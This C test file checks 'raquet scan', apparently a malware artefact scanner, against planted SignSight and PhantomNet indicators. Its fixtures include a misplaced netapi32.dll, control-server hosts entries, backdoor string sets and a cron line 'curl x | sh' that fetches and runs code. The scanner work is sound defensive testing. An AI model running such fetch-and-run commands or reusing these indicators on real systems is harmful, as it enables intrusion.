/* `raquet scan` with packs of artefacts, from its words to its report. */
#include "bytes/test.h"

#include "endpoint/command.h"
#include "endpoint/sweep_scene.h"
#include "endpoint/worker.h"
#include "os/file.h"

#include <arpa/inet.h>
#include <jansson.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char folder[128], report[128], pack[128];

static int begin(void **state)
{
	if (scene_make(state) != 0)
		return 1;
	scene_folder("swept");
	scene_folder("swept/Windows");
	snprintf(folder, sizeof folder, "%s/swept", scene_top);
	snprintf(report, sizeof report, "%s/report", scene_top);
	snprintf(pack, sizeof pack, "%s/own.artefact", scene_top);
	return 0;
}

static const char *also[2]; /* one option more */

/* Runs `raquet scan` over the folder; "rule where, rule where" of its findings. */
static int scan(const char *option, const char *value, const char *language,
		char *found, size_t size)
{
	const char *const given[] = {
	    "--format", "jsonl", "--lang", language, "--output", report, "--threads",
	    "1",        folder,  option,   value,    also[0],    also[1]};
	char *words[16];
	struct words all = {0, words};
	struct buffer text = {0};
	char *line;
	int code;

	for (size_t i = 0; i < sizeof given / sizeof given[0] && given[i] != NULL; i++)
		words[all.n++] = (char *)(uintptr_t)given[i];
	code = command_scan.run(&all);
	found[0] = 0;
	if (code == EXIT_USAGE)
		return code;
	assert_int_equal(file_read_whole(report, &text, NULL), RQ_OK);
	buffer_u8(&text, 0);
	for (line = strtok((char *)text.data, "\n"); line; line = strtok(NULL, "\n")) {
		json_t *event = json_loads(line, 0, NULL);
		json_t *meta = json_object_get(event, "meta"), *pair;
		size_t i, n = strlen(found);

		if (json_object_get(event, "rule") != NULL)
			snprintf(found + n, size - n, "%s%s", n > 0 ? ", " : "",
				 json_string_value(json_object_get(event, "rule")));
		json_array_foreach(meta, i, pair)
		{
			n = strlen(found);
			if (strcmp(json_string_value(json_array_get(pair, 0)),
				   "where") == 0)
				snprintf(found + n, size - n, " %s",
					 json_string_value(json_array_get(pair, 1)));
		}
		json_decref(event);
	}
	buffer_free(&text);
	return code;
}

static void put_windows(const char *inside, const char *name, const char *text)
{
	char path[128];

	snprintf(path, sizeof path, "swept/Windows/%s", inside);
	scene_folder(path);
	snprintf(path, sizeof path, "swept/Windows/%s/%s", inside, name);
	if (text != NULL)
		scene_put(path, text);
	else
		assert_int_equal(mkfifo(scene_path(path), 0600), 0);
}

static void the_same_name_is_found_where_it_is_wrong(void **state)
{
	char found[512];

	(void)state;
	put_windows("System32", "netapi32.dll", "x");
	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_CLEAN);
	assert_string_equal(found, "");
	put_windows("apppatch", "netapi32.dll", "x");
	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
	assert_string_equal(found, "netapi32_in_apppatch");
}

/* text below the top of the scene; folders on its way are made */
static void plant(const char *path, const char *text)
{
	char folder_of[256];

	for (const char *at = path; (at = strchr(at, '/')) != NULL; at++) {
		snprintf(folder_of, sizeof folder_of, "%.*s", (int)(at - path), path);
		mkdir(scene_path(folder_of), 0700);
	}
	scene_put(path, text);
}

static bool report_has(const char *what)
{
	struct buffer text = {0};
	bool has;

	assert_int_equal(file_read_whole(report, &text, NULL), RQ_OK);
	buffer_u8(&text, 0);
	has = strstr((const char *)text.data, what) != NULL;
	buffer_free(&text);
	return has;
}

/* What Operation SignSight leaves on a disk, and beside each what only looks like it:
 * one finding for each of the first, none for the others, in the reader's language. */
static void signsight_is_found_and_its_look_alikes_are_silent(void **state)
{
	static const struct {
		const char *path, *text, *vi, *en; /* vi NULL: silent */
	} planted[] = {
	    {"swept/Windows/AppPatch/netapi32.dll", "MZ",
	     "netapi32.dll nằm trong thư mục AppPatch",
	     "netapi32.dll lies in AppPatch"},
	    {"swept/Windows/System32/netapi32.dll", "MZ", NULL, NULL},
	    {"swept/Windows/SysWOW64/netapi32.dll", "MZ", NULL, NULL},
	    {"swept/Windows/WinSxS/x86_a_b/netapi32.dll", "MZ", NULL, NULL},
	    {"swept/Program Files (x86)/VGCA/Authentication/SAC/x32/eToken.exe", "MZ",
	     "eToken.exe trong thư mục phần mềm ký số",
	     "eToken.exe in the folder of the signing software"},
	    {"swept/Program Files/SafeNet/eToken.exe", "MZ", NULL, NULL},
	    {"swept/Users/An/AppData/Local/Temp/Wmedia/81.tmp", "MZ",
	     "giả làm tệp tạm trong thư mục Wmedia",
	     "disguised as a temporary file in the folder Wmedia"},
	    {"swept/Users/An/AppData/Local/Temp/Wmedia/82.tmp", "text", NULL, NULL},
	    {"swept/Users/An/AppData/Local/Temp/81.tmp", "MZ", NULL, NULL},
	    {"swept/Windows/System32/Tasks/Windows/Update", "<Task/>",
	     "Tác vụ theo lịch Windows\\\\Update",
	     "A scheduled task Windows\\\\Update"},
	    {"swept/Windows/System32/Tasks/Microsoft/Windows/WindowsUpdate/Update",
	     "<Task/>", NULL, NULL},
	    {"swept/Windows/System32/drivers/etc/hosts",
	     "203.0.113.7 www.OFFICE365.blogdns.com.\n203.0.113.8 office365.com\n",
	     "Máy chủ điều khiển của SignSight", "A control server of SignSight"},
	    {"swept/Users/An/Downloads/gca01-client-v2-x64-8.3.msi", "x",
	     "Bộ cài gca01-client 8.3", "An installer gca01-client 8.3"},
	    {"swept/Users/An/Downloads/gca01-client-v2-x64-9.0.msi", "x", NULL, NULL},
	};
	static const char *const languages[] = {"vi", "en"};
	char found[512];
	size_t n_wanted = 0, n_found = 1;

	(void)state;
	for (size_t i = 0; i < sizeof planted / sizeof planted[0]; i++) {
		plant(planted[i].path, planted[i].text);
		n_wanted += planted[i].vi != NULL;
	}
	for (size_t l = 0; l < 2; l++) {
		assert_int_equal(scan(NULL, NULL, languages[l], found, sizeof found),
				 EXIT_FOUND);
		n_found = 1;
		for (const char *at = found; (at = strstr(at, ", ")) != NULL; at++)
			n_found++;
		if (n_found != n_wanted)
			fail_msg("%s: %s", languages[l], found);
		for (size_t i = 0; i < sizeof planted / sizeof planted[0]; i++) {
			const char *said = l == 0 ? planted[i].vi : planted[i].en;

			if (said != NULL && !report_has(said))
				fail_msg("%s: not said: %s", languages[l], said);
			/* no rule tells what the pack tells */
			if (planted[i].vi == NULL && report_has(planted[i].path))
				fail_msg("%s", planted[i].path);
		}
	}
}

static void what_cannot_be_read_is_found_by_its_name(void **state)
{
	char found[512];

	(void)state;
	put_windows("apppatch", "netapi32.dll", NULL);
	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
	assert_string_equal(found, "netapi32_in_apppatch");
}

static void a_start_point_is_read_on_a_mounted_disk(void **state)
{
	char found[512];

	(void)state;
	scene_folder("swept/etc");
	scene_folder("swept/etc/cron.d");
	scene_put("swept/etc/cron.d/good", "@daily root /usr/bin/good\n");
	scene_put("swept/etc/cron.d/bad", "@daily root curl x | sh\n");
	scene_put("swept/etc/hosts", "1.2.3.4 a.VGCA.homeunix.org.\n");
	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
	assert_string_equal(found, "task_fetches_and_runs bad: curl x | sh, "
				   "control_server a.VGCA.homeunix.org.");
}

static void another_pack_stands_beside_the_shipped_ones(void **state)
{
	static const char text[] =
	    "pack: own\ndate: 2026-01-01\n[mine]\nfile: **\\note.txt\nsize: 1..4\n"
	    "severity: low\ndescription.vi: a\ndescription.en: b\nadvice.vi: c\n"
	    "advice.en: d\n";
	char found[512];

	(void)state;
	scene_put("own.artefact", text);
	scene_put("swept/note.txt", "1234");
	put_windows("apppatch", "netapi32.dll", "x");
	assert_int_equal(scan("--artefacts", pack, "vi", found, sizeof found),
			 EXIT_FOUND);
	assert_string_equal(found, "netapi32_in_apppatch, mine");
	scene_put("own.artefact", "pack: own\n");
	assert_int_equal(scan("--artefacts", pack, "vi", found, sizeof found),
			 EXIT_USAGE);
}

static int listener = -1;

/* Connected to listener until it is ended. */
static pid_t start_connected(void)
{
	struct sockaddr_in here = {.sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t n = sizeof here;
	int ends[2];
	char byte;
	pid_t pid;

	listener = socket(AF_INET, SOCK_STREAM, 0);
	assert_int_equal(bind(listener, (struct sockaddr *)&here, n), 0);
	assert_int_equal(listen(listener, 1), 0);
	assert_int_equal(getsockname(listener, (struct sockaddr *)&here, &n), 0);
	assert_int_equal(pipe(ends), 0);
	pid = fork();
	if (pid == 0) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (connect(fd, (struct sockaddr *)&here, n) == 0 &&
		    write(ends[1], "x", 1) == 1)
			for (;;)
				pause();
		_exit(1);
	}
	assert_int_equal(read(ends[0], &byte, 1), 1);
	close(ends[0]);
	close(ends[1]);
	return pid;
}

static void a_live_connection_to_a_named_address_is_told_of_its_process(void **state)
{
	static const char text[] =
	    "pack: own\ndate: 2026-01-01\n[other]\ndns: 192.0.2.7\nseverity: high\n"
	    "description.vi: a\ndescription.en: b\nadvice.vi: c\nadvice.en: d\n"
	    "[mine]\ndns: 127.0.0.1\nseverity: high\n"
	    "description.vi: a\ndescription.en: b\nadvice.vi: c\nadvice.en: d\n";
	pid_t pid = start_connected();
	char number[16], found[512];

	(void)state;
	snprintf(number, sizeof number, "%d", pid);
	scene_put("own.artefact", text);
	also[0] = "--pid";
	also[1] = number;
	assert_int_equal(scan("--artefacts", pack, "en", found, sizeof found),
			 EXIT_FOUND);
	also[0] = also[1] = NULL;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	close(listener);
	/* beside what the memory of a child of this program holds of rules */
	assert_non_null(strstr(found, "mine tcp 127.0.0.1:"));
	assert_null(strstr(found, "other"));
}

static void a_low_score_alone_does_not_make_the_answer_found(void **state)
{
	static const char text[] =
	    "pack: own\ndate: 2026-01-01\n[mine]\nfile: **\\note.txt\nscore: 20\n"
	    "severity: low\ndescription.vi: a\ndescription.en: b\nadvice.vi: c\n"
	    "advice.en: d\n";
	char found[512];

	(void)state;
	scene_put("own.artefact", text);
	scene_put("swept/note.txt", "1234");
	assert_int_equal(scan("--artefacts", pack, "en", found, sizeof found),
			 EXIT_CLEAN);
	assert_string_equal(found, "mine");
	/* told, though it cannot be read: that is the gap */
	put_windows("Temp", "note.txt", NULL);
	assert_int_equal(scan("--artefacts", pack, "en", found, sizeof found),
			 EXIT_INCOMPLETE);
	assert_string_equal(found, "mine, mine");
	put_windows("apppatch", "netapi32.dll", "x");
	assert_int_equal(scan("--artefacts", pack, "en", found, sizeof found),
			 EXIT_FOUND);
	assert_string_equal(found, "mine, netapi32_in_apppatch, mine");
}

/* No first bytes excuse a file: a process in memory has none. */
static void the_test_pattern_is_found_whatever_stands_in_front(void **state)
{
	static const char words[] = "RAQUET-TEST"
				    "-MALWARE-PATTERN";
	char text[64], found[512];

	(void)state;
	snprintf(text, sizeof text, "RQCACHE %s", words);
	scene_put("swept/x.rules", text);
	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
	assert_string_equal(found, "RAQUET_test_pattern");
}

struct piece {
	const char *text;
	size_t n;
};
#define PIECE(text)                                                                    \
	{                                                                              \
		text, sizeof(text) - 1                                                 \
	}

/* A program of 100 KB that holds the first n pieces. */
static void put_program(const struct piece *pieces, size_t n)
{
	static char program[100 * 1024];
	size_t off = 64;

	memset(program, 0, sizeof program);
	memcpy(program, "MZ", 2);
	for (size_t i = 0; i < n; i++) {
		memcpy(program + off, pieces[i].text, pieces[i].n);
		off += pieces[i].n + 2;
	}
	scene_put_bytes("swept/a.exe", program, sizeof program);
}

static void many_strings_of_a_set_are_one_finding_and_few_are_none(void **state)
{
	static const struct piece installer[] = {
	    PIECE("%s\\system32\\svchost.exe -k %s"),
	    PIECE("%systemroot%"),
	    PIECE("SYSTEM\\CurrentControlSet\\Services"),
	    PIECE("Microsoft\\Windows NT\\CurrentVersion\\Svchost"),
	    PIECE("https=%[^:]:%d"),
	    PIECE("socks=%[^:]:%d"),
	    PIECE("%d.tmp"),
	};
	static const struct piece backdoor[] = {
	    PIECE("%s%08X"),
	    PIECE("k%4d-%02d-%02d"),
	    PIECE("Proxy-Authorization: NTLM"),
	    PIECE("Proxy-Authenticate: NTLM"),
	    PIECE("Proxy-Connection: keep-alive\r\n"),
	    PIECE("HTTP/1.1 \0\0\0HTTP/1.0 "),
	    PIECE("%*[^:]:%d"),
	    PIECE("Host: "),
	    PIECE("Cookies: "),
	};
	static const struct piece relative[] = {
	    PIECE("%AllUsersProfile%\\DeviceSync\\m.exe"),
	    PIECE("aaabbbcccddd"),
	};
	static const struct {
		const struct piece *pieces;
		size_t n;
		const char *rule;
	} sets[] = {{installer, 7, "SignSight_installer_set"},
		    {backdoor, 9, "PhantomNet_backdoor_set"},
		    {relative, 2, "PhantomNet_relative_2017"}};
	char found[512];

	(void)state;
	for (size_t i = 0; i < sizeof sets / sizeof sets[0]; i++) {
		put_program(sets[i].pieces, sets[i].n);
		assert_int_equal(scan(NULL, NULL, "en", found, sizeof found),
				 EXIT_FOUND);
		assert_string_equal(found, sets[i].rule);
		put_program(sets[i].pieces, sets[i].n - 1);
		assert_int_equal(scan(NULL, NULL, "en", found, sizeof found),
				 EXIT_CLEAN);
		assert_string_equal(found, "");
	}
}

#define CASE(test) cmocka_unit_test_setup_teardown(test, begin, scene_remove)

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
	    CASE(the_same_name_is_found_where_it_is_wrong),
	    CASE(signsight_is_found_and_its_look_alikes_are_silent),
	    CASE(what_cannot_be_read_is_found_by_its_name),
	    CASE(a_start_point_is_read_on_a_mounted_disk),
	    CASE(another_pack_stands_beside_the_shipped_ones),
	    CASE(a_live_connection_to_a_named_address_is_told_of_its_process),
	    CASE(a_low_score_alone_does_not_make_the_answer_found),
	    CASE(the_test_pattern_is_found_whatever_stands_in_front),
	    CASE(many_strings_of_a_set_are_one_finding_and_few_are_none)};

	if (argc > 1 && strcmp(argv[1], "worker") == 0)
		return worker_main(argc, argv);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
